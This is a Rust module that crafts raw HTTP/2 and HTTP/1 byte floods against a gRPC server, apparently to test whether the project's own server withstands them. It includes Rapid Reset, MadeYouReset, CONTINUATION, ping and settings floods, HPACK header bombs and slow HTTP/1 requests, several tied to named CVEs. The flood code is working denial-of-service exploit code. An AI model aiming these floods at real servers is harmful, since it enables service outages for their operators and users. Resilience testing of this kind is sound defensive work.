//! Attacks on the server's transport, byte by byte: floods of HTTP/2 frames and of HTTP/1 that cost the server more than their sender.

use std::{
    net::{IpAddr, SocketAddr},
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    task::JoinHandle,
};

/// The first bytes of HTTP/2, and empty settings.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Rounds of a flood that are written at once.
const BATCH: u32 = 64;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0x77;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// An endless sequence of bytes on one connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Calls that are reset as soon as they are opened (CVE-2023-44487).
    RapidReset,
    /// Calls that the server has to reset, because they break the protocol (CVE-2025-8671).
    MadeYouReset,
    /// Calls beyond the number that may be open.
    Streams,
    /// Headers that never end (CVE-2024-27316).
    Continuation,
    /// Headers that never end, in frames without content.
    EmptyContinuation,
    /// Pings (CVE-2019-9512).
    Ping,
    /// Settings (CVE-2019-9515).
    Settings,
    /// Priorities (CVE-2019-9513).
    Priority,
    /// Frames of no known type.
    Unknown,
    /// Data frames without data (CVE-2019-9518).
    EmptyData,
    /// Data frames of a byte.
    TinyData,
    /// Updates of windows by nothing.
    ZeroWindow,
    /// An answer read byte by byte (CVE-2019-9511).
    TinyWindow,
    /// Small headers that stand for 64 MB of them.
    HeaderBomb,
    /// Headers of HTTP/1 that never end.
    Http1Headers,
    /// A body of HTTP/1 in chunks of a byte.
    Http1Chunks,
}

impl Flood {
    /// All floods.
    pub const ALL: [Self; 16] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Streams,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::Ping,
        Self::Settings,
        Self::Priority,
        Self::Unknown,
        Self::EmptyData,
        Self::TinyData,
        Self::ZeroWindow,
        Self::TinyWindow,
        Self::HeaderBomb,
        Self::Http1Headers,
        Self::Http1Chunks,
    ];

    /// The bytes before the first round.
    fn opening(self) -> Vec<u8> {
        let call = |path| [PREFACE, &call(path, 1)].concat();
        match self {
            Self::Continuation | Self::EmptyContinuation => {
                [PREFACE, &frame(HEADERS, 0, 1, &block(FIND))].concat()
            }
            Self::EmptyData | Self::TinyData => call(TRACK),
            Self::TinyWindow => {
                // The initial window of streams is a byte.
                let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]);
                let request = b"\0\0\0\0\x17\x22\x15grasp.v1.GraspService";
                let request = frame(DATA, END_STREAM, 1, request);
                [PREFACE, &settings, &self::call(REFLECTION, 1), &request].concat()
            }
            Self::HeaderBomb => {
                // Adds a header of 4,000 bytes to the table.
                let mut bomb = block(FIND);
                bomb.extend(b"\x40\x01a\x7f\xa1\x1e");
                bomb.resize(bomb.len() + 4000, b'b');
                [PREFACE, &frame(HEADERS, END_HEADERS | END_STREAM, 1, &bomb)].concat()
            }
            Self::Http1Headers => format!("POST {FIND} HTTP/1.1\r\nhost: x\r\n").into_bytes(),
            Self::Http1Chunks => format!(
                "POST {FIND} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"
            )
            .into_bytes(),
            _ => PREFACE.to_vec(),
        }
    }

    /// The bytes of a round, counted from 1.
    fn round(self, round: u32) -> Vec<u8> {
        let stream = 2 * round + 1;
        match self {
            Self::RapidReset => [call(FIND, stream), frame(RESET, 0, stream, &[0, 0, 0, 8])].concat(),
            Self::MadeYouReset => {
                [call(FIND, stream), frame(WINDOW_UPDATE, 0, stream, &[0, 0, 0, 0])].concat()
            }
            Self::Streams => call(FIND, stream),
            Self::Continuation => frame(CONTINUATION, 0, 1, &b"\0\x01a\x01b".repeat(100)),
            Self::EmptyContinuation => frame(CONTINUATION, 0, 1, &[]),
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, (round % 2) as u8, 0]),
            Self::Priority => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 1]),
            Self::Unknown => frame(UNKNOWN, 0, 0, &[]),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::TinyData => frame(DATA, 0, 1, &[0]),
            Self::ZeroWindow => frame(WINDOW_UPDATE, 0, 0, &[0; 4]),
            Self::TinyWindow => frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
            // Each byte repeats that header.
            Self::HeaderBomb => {
                let bomb = [block(FIND), vec![0xbe; 16_000]].concat();
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb)
            }
            Self::Http1Headers => format!("x-{round}: {}\r\n", "a".repeat(50)).into_bytes(),
            Self::Http1Chunks => b"1\r\n{\r\n".to_vec(),
        }
    }
}

const FIND: &str = "/grasp.v1.GraspService/FindGrasp";
const TRACK: &str = "/grasp.v1.GraspService/TrackHoldout";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/// A frame of HTTP/2.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .expect("a frame is small")
        .to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers that open a call.
pub fn call(path: &str, stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &block(path))
}

/// Headers of a call of gRPC, without compression (RFC 7541, appendix A and 6.2.2).
fn block(path: &str) -> Vec<u8> {
    let text = |text: &str| {
        let length = u8::try_from(text.len()).expect("headers are short");
        [&[length], text.as_bytes()].concat()
    };
    [
        vec![0x83, 0x86, 0x04],
        text(path),
        vec![0x01],
        text("x"),
        vec![0x0f, 0x10],
        text("application/grpc"),
        vec![0x00],
        text("te"),
        text("trailers"),
    ]
    .concat()
}

/// How a flood ended.
#[derive(Clone, Copy, Debug)]
pub struct Fate {
    /// The server closed the connection.
    pub is_closed: bool,
    /// The error of its last GOAWAY.
    pub goaway: Option<u32>,
    /// The rounds that were sent.
    pub rounds: u32,
    /// How long it took.
    pub time: Duration,
}

/// Connects from an address of this machine.
///
/// # Panics
/// The address is not this machine's, or nobody listens there.
pub async fn connect(from: IpAddr, server: SocketAddr) -> TcpStream {
    let socket = match from {
        IpAddr::V4(_) => TcpSocket::new_v4(),
        IpAddr::V6(_) => TcpSocket::new_v6(),
    };
    let socket = socket.expect("there are sockets");
    socket
        .bind(SocketAddr::new(from, 0))
        .expect("it is an address of this machine");
    socket.connect(server).await.expect("the server listens")
}

/// Sends a flood until the server closes the connection, or for so many rounds or so long.
pub async fn flood(flood: Flood, from: IpAddr, server: SocketAddr, rounds: u32, longest: Duration) -> Fate {
    let start = Instant::now();
    let (reading, mut writing) = connect(from, server).await.into_split();
    let reading: JoinHandle<Option<u32>> = tokio::spawn(last_goaway(reading));
    let mut sent = 0;
    let mut bytes = flood.opening();
    while !reading.is_finished() && sent < rounds && start.elapsed() < longest {
        let end = (sent + BATCH).min(rounds);
        bytes.extend((sent + 1..=end).flat_map(|round| flood.round(round)));
        let written = tokio::time::timeout(longest, writing.write_all(&bytes)).await;
        if !matches!(written, Ok(Ok(()))) {
            break;
        }
        sent = end;
        bytes.clear();
    }
    // What was sent last may take a moment to be judged.
    let left = longest.saturating_sub(start.elapsed());
    let ended = tokio::time::timeout(left, reading).await;
    Fate {
        is_closed: ended.is_ok(),
        goaway: ended.ok().and_then(Result::ok).flatten(),
        rounds: sent,
        time: start.elapsed(),
    }
}

/// Reads frames to the end of the connection; the error of the last GOAWAY.
async fn last_goaway(mut reading: impl AsyncRead + Unpin) -> Option<u32> {
    let mut goaway = None;
    let mut header = [0; 9];
    while reading.read_exact(&mut header).await.is_ok() {
        let [a, b, c, kind, ..] = header;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        if reading.read_exact(&mut payload).await.is_err() {
            break;
        }
        if let (GOAWAY, Some(code)) = (kind, payload.get(4..8)) {
            goaway = code.try_into().ok().map(u32::from_be_bytes);
        }
    }
    goaway
}
